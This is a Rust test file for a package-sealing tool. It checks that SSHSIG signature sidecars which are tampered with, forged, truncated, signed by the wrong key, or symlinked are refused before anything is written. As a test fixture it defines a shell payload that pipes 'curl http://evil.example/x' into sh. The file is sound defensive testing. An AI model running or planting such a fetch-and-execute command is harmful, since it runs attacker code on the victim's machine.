//! SSHSIG sidecars are verified, never allowed by their name alone: `verify-manifest` checks
//! every sidecar in the workspace, and `unpack` / `rollback` / `verify-package` refuse the
//! whole package (nothing written) when one is not the SSHSIG a trusted envelope signer made
//! over the statement. One named test per attack.

mod common;
use common::*;

use std::fs;
use std::path::{Path, PathBuf};

use secfw_seal::{
    CheckName, SignOptions, SigningKey, TrustPolicy, codes, package, restore, sign_manifest, sshsig, unpack,
};

/// The sidecar name of `k`: `handoff.statement.json.<first 8 hex digits of its keyid>.sig`.
fn sidecar_name(k: &SigningKey) -> String {
    format!("handoff.statement.json.{}.sig", k.public().keyid().get(..8).unwrap())
}

/// A sealed workspace (preparer and approver-1; approver-2 is trusted but did not sign) with
/// SSHSIG sidecars from both signers.
fn sealed_with_sidecars() -> (tempfile::TempDir, PathBuf, TrustPolicy) {
    let (t, dir) = workspace();
    let tp = trust(1);
    generate(&dir);
    for (k, id) in [(prep(), "preparer"), (app1(), "approver-1")] {
        let s = sign_manifest(&manifest(&dir), &tp, &k, &SignOptions::new(id, vopts()).sshsig(true)).unwrap();
        assert_eq!(s.sidecar.unwrap(), dir.join(sidecar_name(&k)));
    }
    (t, dir, tp)
}

fn codes_of(e: &secfw_seal::Error) -> Vec<secfw_artifacts::Code> {
    e.diagnostics().iter().map(|d| d.code).collect()
}

fn is_empty_dir(p: &Path) -> bool {
    fs::read_dir(p).map_or(true, |mut d| d.next().is_none())
}

/// The package at `pkg` rewritten by an attacker who can write the archive but not sign:
/// `edit` may replace an entry's bytes, `extra` entries are added.
fn rewrite(pkg: &Path, edit: impl Fn(&str, Vec<u8>) -> Vec<u8>, extra: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut ar = tar::Archive::new(fs::File::open(pkg).unwrap());
    let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
    for e in ar.entries().unwrap() {
        let mut e = e.unwrap();
        let name = e.path().unwrap().to_string_lossy().into_owned();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        let data = edit(&name, data);
        entries.push((name, data));
    }
    entries.extend(extra.iter().cloned());
    entries.sort();
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in entries {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        b.append_data(&mut h, name, data.as_slice()).unwrap();
    }
    b.into_inner().unwrap()
}

/// `bad` is refused by unpack, verify-package and rollback with `code`, and nothing is written:
/// the unpack target stays empty and the workspace keeps its files.
fn refused_everywhere(t: &Path, dir: &Path, tp: &TrustPolicy, bad: &[u8], code: secfw_artifacts::Code, what: &str) {
    let file = t.join(format!("{}.tar", what.replace(' ', "-")));
    fs::write(&file, bad).unwrap();
    let target = t.join(format!("target-{}", what.replace(' ', "-")));
    let e = unpack(&file, &target, tp, &uopts()).unwrap_err();
    assert!(codes_of(&e).contains(&code), "{what}: unpack: {e}");
    // Refused from the entry list and the sidecar bytes alone, before extraction (a refusal
    // after it would be an `Error::Verification` of the staged copy).
    assert!(matches!(e, secfw_seal::Error::Rejected(_)), "{what}: refused only after extraction: {e:?}");
    assert!(is_empty_dir(&target), "{what}: unpack wrote something");
    let e = secfw_seal::verify_package(&file, tp, &vopts()).unwrap_err();
    assert!(codes_of(&e).contains(&code), "{what}: verify-package: {e}");
    let before: Vec<(String, Vec<u8>)> = sidecar_files(dir);
    let statement = payload(dir);
    let e = restore(&file, dir, tp, &vopts()).unwrap_err();
    assert!(codes_of(&e).contains(&code), "{what}: rollback: {e}");
    assert_eq!(sidecar_files(dir), before, "{what}: rollback changed a sidecar");
    assert_eq!(payload(dir), statement, "{what}: rollback changed the statement");
    assert!(
        fs::read_dir(dir).unwrap().flatten().all(|e| !e.file_name().to_string_lossy().starts_with(".secfw-restore")),
        "{what}: staging left behind"
    );
}

/// The sidecars in `dir` with their bytes, sorted.
fn sidecar_files(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut v: Vec<(String, Vec<u8>)> = fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| secfw_seal::is_sidecar_name(n))
        .map(|n| (n.clone(), fs::read(dir.join(&n)).unwrap()))
        .collect();
    v.sort();
    v
}

/// The workspace with `name` holding `bytes` fails verify-manifest's sidecars check with
/// SL0124 located at `name`, and nothing else.
fn workspace_refuses(dir: &Path, tp: &TrustPolicy, name: &str, bytes: &[u8], what: &str) {
    let p = dir.join(name);
    let old = fs::read(&p).ok();
    fs::write(&p, bytes).unwrap();
    let r = verify(dir, tp);
    assert!(!r.passed(), "{what}: verify-manifest passed");
    assert_eq!(r.failed_names(), vec!["sidecars"], "{what}");
    let d = r.check(CheckName::Sidecars).unwrap().diagnostics.iter().find(|d| d.is_error()).cloned().unwrap();
    assert_eq!(d.code, codes::SIDECAR, "{what}");
    assert_eq!(d.file, name, "{what}: located at the sidecar");
    assert!(d.hint.as_deref().is_some_and(|h| h.contains("--sshsig")), "{what}: {d:?}");
    match old {
        Some(b) => fs::write(&p, b).unwrap(),
        None => fs::remove_file(&p).unwrap(),
    }
    assert!(verify(dir, tp).passed(), "{what}: restored fixture");
}

const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://evil.example/x | sh\n";

#[test]
fn valid_sidecars_verify_package_unpack_and_roll_back() {
    let (t, dir, tp) = sealed_with_sidecars();
    let r = verify(&dir, &tp);
    assert!(r.passed(), "{:?}", r.failed_names());
    let c = r.check(CheckName::Sidecars).unwrap();
    assert!(c.passed && c.detail == "2 sidecar(s) verify", "{c:?}");
    let p = package(&dir, &tp, &vopts()).unwrap();
    assert!(p.entries.contains(&sidecar_name(&prep())) && p.entries.contains(&sidecar_name(&app1())));
    let target = t.path().join("out");
    unpack(&p.path, &target, &tp, &uopts()).unwrap();
    assert_eq!(sidecar_files(&target), sidecar_files(&dir));
    assert!(verify(&target, &tp).passed());
    // The same package after rewriting the archive with the same entries is still accepted:
    // the check is on content, not on the archive's bytes.
    let same = t.path().join("same.tar");
    fs::write(&same, rewrite(&p.path, |_, d| d, &[])).unwrap();
    unpack(&same, &t.path().join("out2"), &tp, &uopts()).unwrap();
}

#[test]
fn sidecar_with_replaced_bytes_is_refused() {
    let (t, dir, tp) = sealed_with_sidecars();
    let p = package(&dir, &tp, &vopts()).unwrap();
    let target = sidecar_name(&prep());
    let bad = rewrite(&p.path, |n, d| if n == target { SCRIPT.to_vec() } else { d }, &[]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, "replaced bytes");
    workspace_refuses(&dir, &tp, &target, SCRIPT, "replaced bytes");
    // The other signer's valid sidecar under this name: a real signature, the wrong key.
    let other = fs::read(dir.join(sidecar_name(&app1()))).unwrap();
    let bad = rewrite(&p.path, |n, d| if n == target { other.clone() } else { d }, &[]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, "swapped sidecar");
    workspace_refuses(&dir, &tp, &target, &other, "swapped sidecar");
}

#[test]
fn forged_sidecar_for_a_trusted_key_that_never_signed_is_refused() {
    let (t, dir, tp) = sealed_with_sidecars();
    let p = package(&dir, &tp, &vopts()).unwrap();
    let name = sidecar_name(&app2());
    // The tester's forgery: armour around garbage.
    let forged = b"-----BEGIN SSH SIGNATURE-----\nforged\n-----END SSH SIGNATURE-----\n".to_vec();
    let bad = rewrite(&p.path, |_, d| d, &[(name.clone(), forged.clone())]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, "forged armour");
    workspace_refuses(&dir, &tp, &name, &forged, "forged armour");
    // Even a valid SSHSIG by approver-2 over this statement: approver-2 did not sign the
    // envelope, so its sidecar claims a signature the seal does not have.
    let real = sshsig::sign(&app2(), sshsig::NAMESPACE, &payload(&dir)).into_bytes();
    assert_eq!(sshsig::verify_canonical(&real, sshsig::NAMESPACE, &payload(&dir)).unwrap(), app2().public());
    let bad = rewrite(&p.path, |_, d| d, &[(name.clone(), real.clone())]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, "non-signer sidecar");
    workspace_refuses(&dir, &tp, &name, &real, "non-signer sidecar");
    let e = unpack(&t.path().join("non-signer-sidecar.tar"), &t.path().join("again"), &tp, &uopts()).unwrap_err();
    assert!(e.to_string().contains("no verified signature in the envelope"), "{e}");
}

#[test]
fn sidecar_of_a_key_outside_the_trust_policy_is_refused() {
    let (t, dir, tp) = sealed_with_sidecars();
    let p = package(&dir, &tp, &vopts()).unwrap();
    let stranger = key(99);
    let name = sidecar_name(&stranger);
    let real = sshsig::sign(&stranger, sshsig::NAMESPACE, &payload(&dir)).into_bytes();
    // In a package its name is not even allowed (closed entry list) ...
    let bad = rewrite(&p.path, |_, d| d, &[(name.clone(), real.clone())]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::PACKAGE_EXTRA_ENTRY, "unknown key");
    // ... and in a workspace the valid signature of an unknown key does not pass.
    workspace_refuses(&dir, &tp, &name, &real, "unknown key");
    fs::write(dir.join(&name), &real).unwrap();
    let r = verify(&dir, &tp);
    assert!(r.check(CheckName::Sidecars).unwrap().detail.contains("not in the trust policy"), "{r:?}");
    fs::remove_file(dir.join(&name)).unwrap();
    // The unknown key's sidecar under a trusted signer's name: the name does not match the key.
    let trusted_name = sidecar_name(&prep());
    let bad = rewrite(&p.path, |n, d| if n == trusted_name { real.clone() } else { d }, &[]);
    refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, "unknown key renamed");
    workspace_refuses(&dir, &tp, &trusted_name, &real, "unknown key renamed");
}

#[test]
fn truncated_garbage_or_noncanonical_armour_is_refused() {
    let (t, dir, tp) = sealed_with_sidecars();
    let p = package(&dir, &tp, &vopts()).unwrap();
    let name = sidecar_name(&prep());
    let good = fs::read(dir.join(&name)).unwrap();
    let text = String::from_utf8(good.clone()).unwrap();
    let wrong_ns = sshsig::sign(&prep(), "file", &payload(&dir));
    let mut other_statement = payload(&dir);
    other_statement.push(b'\n');
    let other_msg = sshsig::sign(&prep(), sshsig::NAMESPACE, &other_statement);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("truncated", good[..good.len() / 2].to_vec()),
        ("truncated blob", text.replacen("AAAA", "", 1).into_bytes()),
        ("empty", Vec::new()),
        ("garbage", b"\x00\xff not a signature".to_vec()),
        ("script appended", [good.clone(), SCRIPT.to_vec()].concat()),
        ("script prepended", [SCRIPT.to_vec(), good.clone()].concat()),
        ("crlf", text.replace('\n', "\r\n").into_bytes()),
        ("oversized", [good.clone(), vec![b'\n'; 5000]].concat()),
        ("wrong namespace", wrong_ns.into_bytes()),
        ("other statement", other_msg.into_bytes()),
    ];
    for (what, bytes) in cases {
        let bad = rewrite(&p.path, |n, d| if n == name { bytes.clone() } else { d }, &[]);
        refused_everywhere(t.path(), &dir, &tp, &bad, codes::SIDECAR, what);
        workspace_refuses(&dir, &tp, &name, &bytes, what);
    }
}

#[test]
fn a_sidecar_that_is_a_symlink_fails_verification() {
    let (t, dir, tp) = sealed_with_sidecars();
    let name = sidecar_name(&prep());
    let real = t.path().join("elsewhere.sig");
    fs::rename(dir.join(&name), &real).unwrap();
    std::os::unix::fs::symlink(&real, dir.join(&name)).unwrap();
    let r = verify(&dir, &tp);
    assert_eq!(r.failed_names(), vec!["sidecars"]);
    assert!(r.error_codes().contains(&codes::SIDECAR));
}

#[test]
fn package_refuses_a_workspace_with_a_bad_sidecar() {
    let (_t, dir, tp) = sealed_with_sidecars();
    fs::write(dir.join(sidecar_name(&prep())), SCRIPT).unwrap();
    let e = package(&dir, &tp, &vopts()).unwrap_err();
    assert!(codes_of(&e).contains(&codes::SIDECAR), "{e}");
    assert!(secfw_seal::list_packages(&dir).is_empty());
}

#[test]
fn rollback_removes_the_sidecars_of_the_replaced_statement() {
    // Package 1 has no sidecars; the workspace is then resealed with sidecars. Rolling back
    // to package 1 must not leave signatures over the newer statement beside the old one.
    let (_t, dir, tp) = sealed(1);
    let p1 = package(&dir, &tp, &vopts()).unwrap();
    fs::write(dir.join("evidence/pentest-2026-q3-summary.md"), "revised summary\n").unwrap();
    let st = std::process::Command::new("git").arg("-C").arg(&dir).args(["commit", "-q", "-am", "revise"]).status();
    assert!(st.unwrap().success());
    generate(&dir);
    for (k, id) in [(prep(), "preparer"), (app1(), "approver-1")] {
        sign_manifest(&manifest(&dir), &tp, &k, &SignOptions::new(id, vopts()).sshsig(true)).unwrap();
    }
    assert_eq!(sidecar_files(&dir).len(), 2);
    assert!(verify(&dir, &tp).passed());
    let r = restore(&p1.path, &dir, &tp, &vopts()).unwrap();
    assert!(r.passed());
    assert!(sidecar_files(&dir).is_empty(), "stale sidecars left: {:?}", sidecar_files(&dir));
    let mut o = vopts();
    o.expect_commit = Some("HEAD~1".into());
    let r = verify_with(&dir, &tp, &o);
    assert!(r.passed(), "{:?}", r.failed_names());
}
